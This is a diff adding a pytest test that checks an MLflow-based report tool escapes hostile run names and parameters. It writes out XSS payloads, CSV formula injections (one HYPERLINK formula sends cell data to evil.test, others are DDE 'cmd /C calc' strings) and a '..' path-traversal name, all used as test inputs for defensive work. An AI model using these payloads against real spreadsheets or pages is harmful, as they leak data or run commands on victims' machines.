@@ -260,3 +260,40 @@ def test_single_run_report(store, tmp_path):
         from dmltrain.report.cli import run
 
         run(Namespace(runs=None, max_runs=0))
+
+
+def test_hostile_names_stay_inert_and_inside_the_output_folder(store, tmp_path, monkeypatch, capsys):
+    """Run names and params are anyone's who can write to the store: no raw HTML, link or image of theirs in
+    report.md, no live formula in runs.csv, and an experiment named ``..`` writes under ./reports, not here."""
+    from mlflow import MlflowClient
+    from mlflow.entities import Metric, Param
+
+    client = MlflowClient(tracking_uri=store["uri"])
+    exp_id = client.create_experiment("..", artifact_location=(store["tmp"] / "hostile").as_uri())
+    names = {
+        "<script>alert(1)</script>": '=HYPERLINK("http://evil.test/?"&A1,"click me")',
+        '<img src=x onerror="alert(2)">': "+cmd|' /C calc'!A0",
+        "[x](javascript:alert(3)) ![y](http://evil.test/t.png)": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1+2": "-0.5",
+    }
+    for i, (name, note) in enumerate(names.items()):
+        run = client.create_run(exp_id, run_name=name, tags={"dmltrain.run_name": name}, start_time=1_000 * (i + 1))
+        client.log_batch(run.info.run_id, metrics=[Metric("loss", 1.0 + i, 0, 1)], params=[Param("note", note)])
+        client.set_terminated(run.info.run_id, "FINISHED", end_time=1_000 * (i + 1) + 500)
+    monkeypatch.chdir(tmp_path)
+    assert main(["report", "--experiment", "..", "--tracking-uri", store["uri"], "--no-progress"]) == 0
+    printed = capsys.readouterr().out
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["reports"]  # nothing beside it, nothing above it
+    out = tmp_path / "reports" / "experiment"
+    md = (out / "report.md").read_text()
+    for raw in (r"<script", r"<img", r"(?<!\\)\]\(javascript:", r"!\[y"):  # a tag, a link or an image
+        assert not re.search(raw, md) and not re.search(raw, printed), raw
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "\\[x\\](javascript:alert(3))" in md
+    with (out / "runs.csv").open(newline="") as f:
+        rows = {r["run"]: r for r in csv.DictReader(f)}
+    assert rows["<script>alert(1)</script>"]["note"] == "'" + names["<script>alert(1)</script>"]
+    assert rows["'=1+2"]["note"] == "-0.5"  # a number stays a number
+    cells = [c for r in rows.values() for c in r.values() if c]
+    assert not any(c.startswith(("=", "+", "@")) or (c.startswith("-") and c != "-0.5") for c in cells), cells
+    html = (out / "report.html").read_text()
+    assert "<script>alert" not in html and "<img src=x" not in html
